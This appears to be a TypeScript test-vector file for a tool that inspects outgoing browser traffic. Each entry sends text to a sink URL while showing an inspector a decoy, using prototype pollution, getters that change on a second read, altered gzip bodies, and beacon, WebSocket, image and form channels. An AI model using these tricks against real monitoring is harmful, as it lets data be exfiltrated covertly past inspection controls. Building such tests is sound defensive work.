import type { Vector } from "./vector.ts";

// Bodies and addresses that are something else when they are read again, and prototypes that speak for the browser. Run in
// the page, each function stands for itself: none uses what is outside it.

/** The methods of pages that want what leaves to be other than what is read. */
export const TRICKS: readonly Vector[] = [
  {
    name: "then-of-bytes",
    run: (body, url) => {
      const { prototype } = Object;
      const name = "then".slice();
      Object.defineProperty(prototype, name, {
        configurable: true,
        value(resolve: (value: unknown) => void) {
          Reflect.deleteProperty(prototype, name);
          resolve(new ArrayBuffer(0));
        },
      });
      const sent = fetch(url, { method: "POST", body });
      setTimeout(() => Reflect.deleteProperty(prototype, name), 500);
      return sent;
    },
  },
  {
    name: "then-of-array-buffer",
    run: (body, url) => {
      const { prototype } = ArrayBuffer;
      const name = "then".slice();
      try {
        Object.defineProperty(prototype, name, {
          configurable: true,
          value(resolve: (value: unknown) => void) {
            resolve(new ArrayBuffer(0));
          },
        });
      } catch {
        // It stands fast.
      }
      return fetch(url, { method: "POST", body });
    },
  },
  {
    name: "keepalive-null-body",
    run: (body, url) =>
      fetch(new Request(url, { method: "POST", body, keepalive: true }), { body: null }),
  },
  {
    name: "keepalive-second-body",
    run: (text, url) => {
      let reads = 0;
      return fetch(url, {
        method: "POST",
        keepalive: true,
        get body() {
          return reads++ === 0 ? text : "clean";
        },
      });
    },
  },
  {
    name: "keepalive-second-text",
    run: (text, url) => {
      let reads = 0;
      const body = { toString: () => (reads++ === 0 ? "clean" : text) } as unknown as string;
      return fetch(url, { method: "POST", keepalive: true, body });
    },
  },
  {
    name: "fetch-later-request",
    run: (body, url) => {
      const later = Reflect.get(window, "fetchLater") as (request: Request, init: object) => void;
      later(new Request(url, { method: "POST", body }), { activateAfter: 0 });
    },
    only: "chromium",
  },
  {
    name: "beacon-second-text",
    run: (text, url) => {
      let reads = 0;
      const body = { toString: () => (reads++ === 0 ? "clean" : text) } as unknown as string;
      navigator.sendBeacon(url, body);
    },
  },
  {
    name: "beacon-form-changed",
    run: (text, url) => {
      const form = new FormData();
      form.append("file", new File(["clean"], "a.txt"));
      navigator.sendBeacon(url, form);
      form.append("prompt", text);
    },
  },
  {
    name: "blob-of-another-list",
    run: (text, url) => {
      const parts = ["clean"];
      Object.defineProperty(parts, Symbol.iterator, {
        *value() {
          yield text;
        },
      });
      navigator.sendBeacon(url, new Blob(parts));
    },
  },
  {
    name: "view-that-lies",
    run: (text, url) => {
      const bytes = new TextEncoder().encode(text);
      for (const name of ["byteLength", "byteOffset", "length"]) {
        Object.defineProperty(bytes, name, { value: 0 });
      }
      Object.defineProperty(bytes, "buffer", { value: new ArrayBuffer(0) });
      navigator.sendBeacon(url, bytes);
    },
  },
  {
    name: "packed-into-setters",
    run: async (text, url) => {
      const packed = new Blob([text]).stream().pipeThrough(new CompressionStream("gzip"));
      const body = await new Response(packed).arrayBuffer();
      const { prototype } = Array;
      const set = (): void => undefined;
      Object.defineProperty(prototype, "0", { configurable: true, set });
      const sent = fetch(url, { method: "POST", body });
      setTimeout(() => Reflect.deleteProperty(prototype, "0"), 500);
      return sent;
    },
  },
  {
    name: "packed-members",
    run: async (text, url) => {
      const packed = (part: string) =>
        new Response(
          new Blob([part]).stream().pipeThrough(new CompressionStream("gzip")),
        ).arrayBuffer();
      const body = new Blob([await packed("clean"), await packed(text)]);
      return fetch(url, { method: "POST", body });
    },
  },
  {
    name: "packed-cut",
    run: async (text, url) => {
      const packed = new Blob([text]).stream().pipeThrough(new CompressionStream("gzip"));
      const body = (await new Response(packed).arrayBuffer()).slice(0, -8);
      return fetch(url, { method: "POST", body });
    },
  },
  {
    name: "image-second-address",
    run: (text, url) => {
      let reads = 0;
      const address = {
        toString: () => (reads++ === 0 ? url : `${url}?q=${encodeURIComponent(text)}`),
      };
      new Image().src = address as unknown as string;
    },
  },
  {
    name: "attribute-by-object",
    run: (text, url) => {
      const name = { toString: () => "src" } as unknown as string;
      document.createElement("img").setAttribute(name, `${url}?q=${encodeURIComponent(text)}`);
    },
  },
  {
    name: "attribute-second-name",
    run: (text, url) => {
      let reads = 0;
      const name = { toString: () => (reads++ === 0 ? "title" : "src") } as unknown as string;
      document.createElement("img").setAttribute(name, `${url}?q=${encodeURIComponent(text)}`);
    },
  },
  {
    name: "cache-other-list",
    run: async (text, url) => {
      const cache = await caches.open("x");
      const { prototype } = Array;
      const values = Reflect.get(prototype, Symbol.iterator);
      const list = [url];
      Object.defineProperty(list, Symbol.iterator, { value: values });
      Object.defineProperty(prototype, Symbol.iterator, {
        configurable: true,
        writable: true,
        *value() {
          yield `${url}?q=${encodeURIComponent(text)}`;
        },
      });
      const added = cache.addAll(list);
      Object.defineProperty(prototype, Symbol.iterator, { value: values });
      await added;
    },
  },
  {
    name: "socket-second-address",
    run: (text, url) => {
      let reads = 0;
      const socket = url.replace("https", "wss").replace("/sink/", "/ws/");
      const address = {
        toString: () => (reads++ === 0 ? socket : `${socket}?q=${encodeURIComponent(text)}`),
      };
      return new WebSocket(address as unknown as string);
    },
  },
  {
    name: "socket-second-text",
    run: (text, url) => {
      let reads = 0;
      const message = { toString: () => (reads++ === 0 ? "clean" : text) } as unknown as string;
      const socket = new WebSocket(url.replace("https", "wss").replace("/sink/", "/ws/"));
      socket.addEventListener("open", () => socket.send(message));
    },
  },
  {
    name: "socket-own-params",
    run: (text, url) => {
      const message = new URLSearchParams("a=b");
      message.toString = () => text;
      const socket = new WebSocket(url.replace("https", "wss").replace("/sink/", "/ws/"));
      socket.addEventListener("open", () => socket.send(message as unknown as string));
    },
  },
  {
    name: "socket-stream",
    run: async (text, url) => {
      interface Streams {
        readonly opened: Promise<{ readonly writable: WritableStream<string> }>;
      }
      const Sockets = Reflect.get(window, "WebSocketStream") as new (url: string) => Streams;
      const socket = new Sockets(url.replace("https", "wss").replace("/sink/", "/ws/"));
      const { writable } = await socket.opened;
      await writable.getWriter().write(text);
    },
    only: "chromium",
  },
  {
    name: "form-in-its-address",
    run: (text, url) => {
      const frame = document.createElement("iframe");
      frame.name = "taker";
      const form = document.createElement("form");
      form.method = "post";
      form.target = "taker";
      form.action = `${url}?q=${encodeURIComponent(text)}`;
      form.innerHTML = '<input name="action" value="clean">';
      document.body.append(frame, form);
      HTMLFormElement.prototype.submit.call(form);
    },
  },
  {
    name: "document-open-window",
    run: (text, url) => document.open(`${url}?q=${encodeURIComponent(text)}`, "_blank", ""),
  },
];
